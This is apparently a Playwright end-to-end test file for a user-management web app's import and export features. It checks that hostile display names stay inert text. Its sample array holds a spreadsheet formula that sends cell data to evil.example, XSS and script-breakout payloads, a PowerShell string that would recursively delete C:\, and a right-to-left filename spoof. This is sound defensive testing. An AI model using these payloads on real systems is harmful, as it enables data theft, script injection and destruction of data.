// Files in and out: hostile names stay text, broken files are explained at their place, what leaves
// is what was staged.

import assert from "node:assert/strict";
import { download, pick, started } from "../harness.mjs";
import { csv, edit, idOf, saved, staff, stagedCount, takeIn, turnTo, userPage, visit } from "../steps.mjs";

/** Names that would do something if anybody took them for more than names. */
const NAMES = [
  `=HYPERLINK("http://evil.example/?"&A1,"see")`,
  `<img src=x onerror=alert(1)>`,
  `</script><script>document.title="taken over"</script>`,
  `'; Remove-Item C:\\ -Recurse; $(calc) #`,
  `O’Brien “the” ‘quote’ "plain" \`tick\``,
  `Anna \u202Egpj.exe`,
  `nul\u0000l`,
  `{{7*7}} \${7*7} %0a&lt;b&gt;`,
];

const hostile = () => staff(NAMES.length).map((person, at) => ({ ...person, displayName: NAMES[at] }));

/** Lets a newer export be taken in, as far as the first pause; what comes back lets it go on. */
async function takingIn(page, people) {
  await pick(page, "input[type=file]", { name: "newer.csv", text: csv(people) });
  await page.locator("#accept-import").waitFor();
  await page.evaluate(() => {
    const give = scheduler.yield.bind(scheduler);
    const told = new Promise((resolve) => (window.goOn = resolve));
    scheduler.yield = () => told.then(give);
  });
  await page.locator("#accept-import").click();
  await page.getByText("Taking in…").waitFor();
  assert.equal(await page.locator(".save-state").getAttribute("data-save"), "saving");
  return () => page.evaluate(() => window.goOn());
}

/** Fails when a text became more than text. */
async function onlyText(page) {
  const found = await page.evaluate(() => ({
    elements: document.querySelectorAll("img, main script, main style, main iframe, main object").length,
    title: document.title.includes("taken over"),
    links: [...document.links].filter((link) => link.origin !== location.origin).map((link) => link.href),
  }));
  assert.deepEqual(found, { elements: 0, title: false, links: [] });
}

const databases = (page) => page.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name).sort());

/** Downloads the visible list in a profile. */
const exported = (page, profile) =>
  download(page, async () => {
    await page.getByRole("button", { name: /^(Export|Exporter)$/ }).click();
    await page.getByRole("menuitem", { name: profile }).click();
  });

export default {
  async "hostile names are shown as text everywhere, and leave as text"(t) {
    const site = await t.site();
    const page = await (await t.browser({ language: "en" })).page();
    const dialogs = [];
    page.on("dialog", (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());
    await visit(page, site, "start");
    await pick(page, "input[type=file]", { name: "<img src=x>.csv", text: csv(hostile()) });
    for (const sentence of ["would run this as a formula", "looks like HTML", "turns the reading direction (U+202E)", "control character (U+0000)", "typographic quotation mark"]) {
      await page.getByText(sentence).first().waitFor();
    }
    await onlyText(page);
    await page.locator("#accept-import").click();
    await saved(page);
    await turnTo(page, "Users");
    for (const name of NAMES) {
      const shown = page.getByRole("grid").getByRole("link").filter({ hasText: name.split(/[\u202e\u0000]/)[0] });
      assert.equal(await shown.count(), 1, name);
    }
    await onlyText(page);

    // Out in both profiles, and in again: nothing was changed on the way.
    const raw = await exported(page, /^CSV as it is/);
    const sheet = await exported(page, /^CSV for spreadsheets/);
    assert.match(raw.name, /^my-tenant-users-\d{4}-\d\d-\d\d\.csv$/);
    assert.ok(raw.text.includes(`"=HYPERLINK(""http://evil.example/?""&A1,""see"")"`));
    assert.notEqual(raw.bytes[0], 0xef, "no byte order mark");
    assert.deepEqual([...sheet.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.ok(!/(^|,)"?[=@]/m.test(sheet.text), "no cell that starts as a formula does");
    for (const file of [raw, sheet]) {
      await pick(page, "input[type=file]", { name: file.name, bytes: file.bytes });
      await page.getByText("Everything in these files is so already.").waitFor();
      await page.getByRole("button", { name: "Cancel" }).click();
    }

    // Staged for everybody, then as scripts.
    await turnTo(page, "Users");
    await page.getByRole("checkbox", { name: "Select all users that match" }).click();
    await page.getByRole("button", { name: "Edit attribute…" }).click();
    const dialog = page.getByRole("dialog");
    await dialog.getByRole("combobox", { name: "Attribute" }).selectOption({ label: "Job title" });
    await dialog.getByRole("textbox", { name: "Value" }).fill(`’); calc; ('$(calc)" <b>`);
    await dialog.getByRole("button", { name: `Stage for ${NAMES.length} users` }).click();
    await stagedCount(page).filter({ hasText: `${NAMES.length} staged` }).waitFor();
    await turnTo(page, "Changes");
    await onlyText(page);
    await page.getByRole("link", { name: "Hand-off" }).click();
    for (const [tab, name] of [["PowerShell script", "my-tenant-changes.ps1"], ["Rollback script", "my-tenant-rollback.ps1"]]) {
      await page.getByRole("tab", { name: tab }).click();
      const file = await download(page, () => page.getByRole("button", { name: `Download ${name}` }).click());
      assert.equal(file.name, name);
      assert.deepEqual([...file.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], "the mark that Windows PowerShell 5.1 needs");
      for (let at = 0; at < NAMES.length; at += 1) assert.ok(file.text.includes(idOf(at)), `${tab}: ${at}`);
      const shown = await page.getByRole("region", { name: `Content of ${name}` }).textContent();
      assert.equal(shown.replaceAll("\r", ""), file.text.slice(1).replaceAll("\r", ""));
      await onlyText(page);
    }
    for (const [tab, name, title] of [["$batch JSON", "my-tenant-changes-batch.json", `’); calc; ('$(calc)" <b>`], ["$batch JSON, rollback", "my-tenant-rollback-batch.json", "Clerk"]]) {
      await page.getByRole("tab", { name: tab, exact: true }).click();
      const file = await download(page, () => page.getByRole("button", { name: `Download ${name}` }).click());
      const requests = JSON.parse(file.text).flatMap((body) => body.requests);
      assert.equal(requests.length, NAMES.length);
      for (const request of requests) assert.equal(request.body.jobTitle, title);
      assert.deepEqual(new Set(requests.map(({ method }) => method)), new Set(["PATCH"]));
    }
    assert.deepEqual(dialogs, []);
  },

  async "broken files are explained at file, row and column, in both languages; cancelling leaves nothing"(t) {
    const site = await t.site();
    const people = staff(4);
    people[1].accountEnabled = "perhaps";
    people[2].id = people[0].id;
    people[3].userPrincipalName = people[0].userPrincipalName;
    const graph = { value: staff(9).slice(7).map(({ id, userPrincipalName, displayName }) => ({ id, userPrincipalName, displayName })) };
    const files = [
      { name: "people.csv", text: csv(people) },
      { name: "packed.csv", bytes: Buffer.from("504b0304140000000800", "hex") },
      { name: "cut.json", text: JSON.stringify(graph).slice(0, -20) },
      { name: "ansi.csv", bytes: Buffer.from(csv([{ ...staff(6)[5], displayName: "Zoé Müller" }]), "latin1") },
    ];
    const sentences = {
      en: [
        "people.csv, row 3, column “accountEnabled” “perhaps” is neither yes nor no; the value stays unknown.",
        /people\.csv, row 4.* The same object ID as row 2/,
        /people\.csv, row 5.* Row 2 has the same user principal name/,
        "packed.csv This is a ZIP archive: unpack it, and drop the files in it.",
        /cut\.json.* The file is cut off at line 1, character \d+/,
        "ansi.csv The file is not UTF-8; it was read as Windows-1252.",
      ],
      fr: [
        "people.csv, ligne 3, colonne «\u00a0accountEnabled\u00a0» «\u00a0perhaps\u00a0» n’est ni oui ni non\u202f; la valeur reste inconnue.",
        /people\.csv, ligne 4.* Même ID d’objet que la ligne 2/,
        /people\.csv, ligne 5.* La ligne 2 porte le même nom/,
        "packed.csv C’est une archive ZIP\u00a0: décompressez-la et déposez les fichiers qu’elle contient.",
        /cut\.json.* Le fichier est tronqué à la ligne 1, caractère \d+/,
        "ansi.csv Le fichier n’est pas en UTF-8\u202f; il a été lu en Windows-1252.",
      ],
    };
    for (const language of ["en", "fr"]) {
      const page = await (await t.browser({ language })).page();
      await visit(page, site, "start");
      // The list of workspaces has been read by then, which makes a database of its own.
      const none = () => page.getByText(language === "fr" ? "Aucun espace de travail n’est encore enregistré" : "No workspace has been saved").waitFor();
      await none();
      const before = await databases(page);
      await pick(page, "input[type=file]", ...files);
      await page.locator("#accept-import").waitFor();
      const told = await page.getByRole("main").getByRole("listitem").allInnerTexts();
      for (const sentence of sentences[language]) {
        assert.ok(told.some((text) => (sentence.test ? sentence.test(text) : text === sentence)), `${sentence} in\n${told.join("\n")}`);
      }
      await t.accessible(page, `problems ${language}`);
      await page.getByRole("button", { name: language === "fr" ? "Annuler" : "Cancel", exact: true }).click();
      await page.getByText(language === "fr" ? "Aucune importation en cours" : "Nothing is being imported").waitFor();
      await visit(page, site, "start");
      await none();
      assert.deepEqual(await databases(page), before, "cancelled without a trace");
      if (language === "en") {
        await takeIn(page, site, ...files);
        await turnTo(page, "Users");
        await page.getByRole("searchbox", { name: "Search users" }).fill("muller");
        await page.getByRole("grid").getByText("Zoé Müller").waitFor();
      }
    }
  },

  async "the problems of an import leave as a file, each with its place"(t) {
    const site = await t.site();
    const people = staff(4);
    people[1].accountEnabled = "=perhaps";
    people[2].id = people[0].id;
    for (const [language, name, head, rows] of [
      ["en", /^people-csv-problems-\d{4}-\d\d-\d\d\.csv$/, "File,Row,Column,Code,Problem", [
        /^people\.csv,3,accountEnabled,[\w-]+,"?“=perhaps” is neither yes nor no; the value stays unknown\."?$/,
        /^people\.csv,4,,[\w-]+,"?The same object ID as row 2/,
      ]],
      ["fr", /^people-csv-problemes-\d{4}-\d\d-\d\d\.csv$/, "Fichier;Ligne;Colonne;Code;Problème", [
        /^people\.csv;3;accountEnabled;[\w-]+;"?«\u00a0=perhaps\u00a0» n’est ni oui ni non\u202f; la valeur reste inconnue\."?$/,
        /^people\.csv;4;;[\w-]+;"?Même ID d’objet que la ligne 2/,
      ]],
    ]) {
      const page = await (await t.browser({ language })).page();
      await visit(page, site, "start");
      await pick(page, "input[type=file]", { name: "people.csv", text: csv(people) });
      const button = language === "fr" ? "Enregistrer la liste des problèmes (CSV)" : "Save the list of problems (CSV)";
      const file = await download(page, () => page.getByRole("button", { name: button }).click());
      assert.match(file.name, name);
      assert.deepEqual([...file.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], "the mark that spreadsheets know UTF-8 by");
      const [first, ...lines] = file.text.slice(1).trimEnd().split("\r\n");
      assert.equal(first, head);
      for (const row of rows) assert.ok(lines.some((line) => row.test(line)), `${row} in\n${lines.join("\n")}`);
      assert.equal(lines.length, await page.getByRole("main").locator("ul.dots > li").count(), "as many as are shown");
    }
  },

  async "a selection leaves alone: its rows in the order of the list, then those that are not in it"(t) {
    const site = await t.site();
    const page = await (await t.browser({ language: "en" })).page();
    await takeIn(page, site, { name: "users.csv", text: csv(staff(20)) });
    await turnTo(page, "Users");
    const names = (file) => file.text.trimEnd().split("\r\n").slice(1).map((line) => line.split(",")[0]);
    for (const number of ["0007", "0002", "0012"]) {
      await page.getByRole("row").filter({ hasText: number }).locator(".tick").click();
    }
    await page.getByText("3 selected").waitFor();
    const raw = await exported(page, /^CSV as it is/);
    assert.match(raw.name, /^my-tenant-users-\d{4}-\d\d-\d\d\.csv$/);
    assert.deepEqual(names(raw), ["User 0002", "User 0007", "User 0012"]);
    await page.getByRole("status").getByText("3 users exported").waitFor();
    assert.deepEqual(names(await exported(page, /^CSV for spreadsheets/)), ["User 0002", "User 0007", "User 0012"]);
    await page.getByRole("searchbox", { name: "Search users" }).fill("user0012");
    await page.getByText("2 of them are not in this list").waitFor();
    assert.deepEqual(names(await exported(page, /^CSV as it is/)), ["User 0012", "User 0002", "User 0007"]);
    await page.getByRole("button", { name: "Clear selection" }).click();
    assert.deepEqual(names(await exported(page, /^CSV as it is/)), ["User 0012"]);
  },

  async "an import that is cancelled while it reads leaves what is open as it was"(t) {
    const site = await t.site();
    const page = await (await t.browser({ language: "en" })).page();
    await takeIn(page, site, { name: "users.csv", text: csv(staff(20)) });
    const before = await databases(page);
    const padding = "x".repeat(150);
    const many = csv(staff(25_000).map((person) => ({ ...person, streetAddress: padding })));
    const devtools = await page.context().newCDPSession(page);
    await devtools.send("Emulation.setCPUThrottlingRate", { rate: 4 });
    await page.evaluate(() => {
      const watch = new MutationObserver(() => {
        const button = document.querySelector("main progress")?.parentElement.querySelector("button");
        if (button) {
          watch.disconnect();
          document.documentElement.dataset.cancelled = button.innerText;
          button.click();
        }
      });
      watch.observe(document.body, { subtree: true, childList: true });
    });
    await pick(page, "input[type=file]", { name: "many.csv", text: many });
    await page.waitForSelector("html[data-cancelled=Cancel]");
    await devtools.send("Emulation.setCPUThrottlingRate", { rate: 1 });
    await page.getByText("Nothing is being imported").waitFor();
    await turnTo(page, "Users");
    await page.getByText("20 users", { exact: true }).first().waitFor();
    await saved(page);
    assert.deepEqual(await databases(page), before);
    await page.reload();
    await started(page);
    await page.getByText("20 users", { exact: true }).first().waitFor();
  },

  async "an import that is cancelled while it is taken in leaves what is open as it was"(t) {
    const site = await t.site();
    const page = await (await t.browser({ language: "en" })).page();
    await takeIn(page, site, { name: "users.csv", text: csv(staff(20)) });
    const before = await databases(page);
    const goOn = await takingIn(page, staff(25));
    await page.getByRole("button", { name: "Cancel" }).click();
    await page.getByText("Nothing is being imported").waitFor();
    await goOn();
    await turnTo(page, "Users");
    await page.getByText("20 users", { exact: true }).first().waitFor();
    await saved(page);
    assert.deepEqual(await databases(page), before);
  },

  async "what is done while an import is taken in is done to what comes in"(t) {
    const site = await t.site();
    const page = await (await t.browser({ language: "en" })).page();
    await takeIn(page, site, { name: "users.csv", text: csv(staff(20)) });
    await userPage(page, site, 3);
    await edit(page, "Job title", "Notary");
    await saved(page);
    const goOn = await takingIn(page, staff(25));
    await page.keyboard.press("Control+z");
    await stagedCount(page).waitFor({ state: "detached" });
    await goOn();
    await page.getByText("25 users were read and taken in").waitFor();
    await saved(page);
    await visit(page, site, "users");
    await page.getByText("25 users", { exact: true }).first().waitFor();
    await page.keyboard.press("Control+y");
    await stagedCount(page).waitFor();
    await userPage(page, site, 3);
    await page.getByRole("definition").filter({ hasText: "Notary" }).first().waitFor();
  },

  async "what is not read at all damages nothing"(t) {
    const site = await t.site();
    const page = await (await t.browser({ language: "fr" })).page();
    await takeIn(page, site, { name: "users.csv", text: csv(staff(20)) });
    for (const file of [
      { name: "vide.csv", text: "" },
      { name: "classeur.xlsx", bytes: Buffer.from("504b030414000600080000002100", "hex") },
      { name: "image.csv", bytes: Buffer.from("89504e470d0a1a0a0000000d49484452", "hex") },
      { name: "autre.csv", text: "a,b,c\r\n1,2,3\r\n" },
    ]) {
      await pick(page, "input[type=file]", file);
      await page.getByText("Aucun de ces fichiers n’apporte quelque chose à importer.").waitFor();
      await page.getByRole("main").getByRole("listitem").filter({ hasText: file.name }).first().waitFor();
      await page.getByRole("button", { name: "Annuler", exact: true }).click();
    }
    for (const path of ["start", "import", "settings", "users"]) {
      await visit(page, site, path);
      await pick(page, "input[type=file]", { name: "abîmé.tenantry", text: "{}" });
      await page.getByRole("heading", { name: "Le fichier « abîmé.tenantry » n’a pas pu être ouvert" }).waitFor();
    }
    await t.accessible(page, "a foreign workspace file");
    await visit(page, site, "start");
    await page.getByRole("button", { name: "Ouvrir l’exemple" }).click();
    await page.getByRole("heading", { level: 1, name: "Organisation d’exemple" }).waitFor();
    await saved(page);
    await visit(page, site, "start");
    await page.getByRole("main").getByRole("button", { name: "Mon locataire", exact: true }).click();
    await page.getByRole("heading", { level: 1, name: "Mon locataire" }).waitFor();
    await visit(page, site, "users");
    await page.getByText("20 utilisateurs", { exact: true }).first().waitFor();
  },
};
